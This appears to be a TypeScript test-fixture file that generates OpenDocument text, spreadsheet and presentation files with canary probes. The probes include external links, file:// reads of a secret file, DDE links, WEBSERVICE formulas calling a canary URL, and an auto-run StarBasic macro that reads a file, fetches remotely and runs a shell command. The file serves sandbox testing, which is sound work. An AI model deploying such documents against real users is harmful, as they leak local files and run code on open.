import { makeOpenDocumentPackage } from "#tests/samples/office/office-packages.ts";
import type { Canary } from "../canary.ts";

/** OpenDocument files with external references or macros. */

const odfImage = (url: string) =>
  `<draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:image xlink:href="${url}" xlink:actuate="onLoad" xlink:show="embed"/></draw:frame>`;
const odfObject = (url: string) =>
  `<draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:object xlink:href="${url}" xlink:actuate="onLoad"/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:floating-frame xlink:href="${url}"/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:plugin xlink:href="${url}"/></draw:frame>`;

/** Linked images, objects, frames and sections, and DDE. */
export function textDocument({ url, secretFile }: Canary): Buffer {
  const file = `file://${secretFile}`;
  const section = (name: string, target: string) =>
    `<text:section text:name="${name}"><text:section-source xlink:href="${target}" text:filter-name="Text"/><text:p>old</text:p></text:section>`;
  const dde = `<text:section text:name="d"><office:dde-source office:dde-application="soffice" office:dde-topic="${secretFile}" office:dde-item="a" office:automatic-update="true"/><text:p>old</text:p></text:section>`;
  const inside = [url, file, `../../other-job/in/secret.txt`].map(
    (target) => `<text:p>${odfImage(target)}${odfObject(target)}</text:p>`,
  );
  return makeOpenDocumentPackage(
    "text",
    `<text:p>still</text:p>${inside.join("")}${section("a", `${url}/a.txt`)}${section("b", file)}${dde}`,
    {
      parts: [
        {
          name: "meta.xml",
          content: `<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:meta><meta:template xlink:href="${url}/t.ott"/><meta:auto-reload xlink:href="${url}/r" meta:delay="PT0S"/></office:meta></office:document-meta>`,
        },
      ],
    },
  );
}

/** WEBSERVICE, DDE, linked tables and cell ranges. */
export function spreadsheet({ url, secretFile }: Canary): Buffer {
  const cell = (formula: string) =>
    `<table:table-row><table:table-cell table:formula="of:=${formula}" office:value-type="string"><text:p>old</text:p></table:table-cell></table:table-row>`;
  const area = `<table:table-row><table:table-cell office:value-type="string"><table:cell-range-source table:name="A1" xlink:href="${url}/b.ods" table:last-column-spanned="1" table:last-row-spanned="1"/><text:p>still</text:p></table:table-cell></table:table-row>`;
  const formulas = [
    `WEBSERVICE(&quot;${url}/a&quot;)`,
    `WEBSERVICE(&quot;file://${secretFile}&quot;)`,
    `DDE(&quot;soffice&quot;;&quot;${secretFile}&quot;;&quot;a&quot;)`,
    `['file://${secretFile}'#$Sheet1.A1]`,
    `FILTERXML(WEBSERVICE(&quot;${url}/x&quot;);&quot;//a&quot;)`,
  ];
  return makeOpenDocumentPackage(
    "spreadsheet",
    `<table:table table:name="S">${area}${formulas.map(cell).join("")}</table:table><table:table table:name="L"><table:table-source xlink:href="${url}/c.csv" table:filter-name="Text - txt - csv (StarCalc)"/></table:table>`,
  );
}

export function presentation({ url, secretFile }: Canary): Buffer {
  const file = `file://${secretFile}`;
  return makeOpenDocumentPackage(
    "presentation",
    `<draw:page draw:name="p"><draw:frame svg:width="9cm" svg:height="3cm"><draw:text-box><text:p>still</text:p></draw:text-box></draw:frame>${odfImage(`${url}/a.png`)}${odfImage(file)}${odfObject(url)}${odfObject(file)}</draw:page>`,
  );
}

/** A macro that reads a file, connects, writes and runs a program, bound to all early events. */
export function macroDocument({ url, secretFile }: Canary): Buffer {
  const basic = `Sub Main\nDim s As String\nOpen "${secretFile}" For Input As #1\nLine Input #1, s\nThisComponent.Text.String = s\nCreateUnoService("com.sun.star.ucb.SimpleFileAccess").readFile("${url}/m")\nShell("touch /job/out/x")\nEnd Sub`;
  const module = `<?xml version="1.0"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">${basic.replaceAll('"', "&quot;")}</script:module>`;
  const library = (name: string, elements: string) =>
    `<?xml version="1.0"?><library:${name} xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"${elements}</library:${name}>`;
  const listeners = ["load", "load-finished", "view-created", "print"].map(
    (event) =>
      `<script:event-listener script:language="ooo:script" script:event-name="${event.includes("-") ? "office" : "dom"}:${event}" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>`,
  );
  return makeOpenDocumentPackage("text", "<text:p>still</text:p>", {
    before: `<office:scripts><office:event-listeners>${listeners.join("")}</office:event-listeners></office:scripts>`,
    parts: [
      { name: "Basic/Standard/M.xml", content: module },
      {
        name: "Basic/Standard/script-lb.xml",
        content: library("library", ` library:name="Standard"><library:element library:name="M"/>`),
      },
      {
        name: "Basic/script-lc.xml",
        content: library(
          "libraries",
          `><library:library library:name="Standard" library:link="false"/>`,
        ),
      },
    ],
  });
}
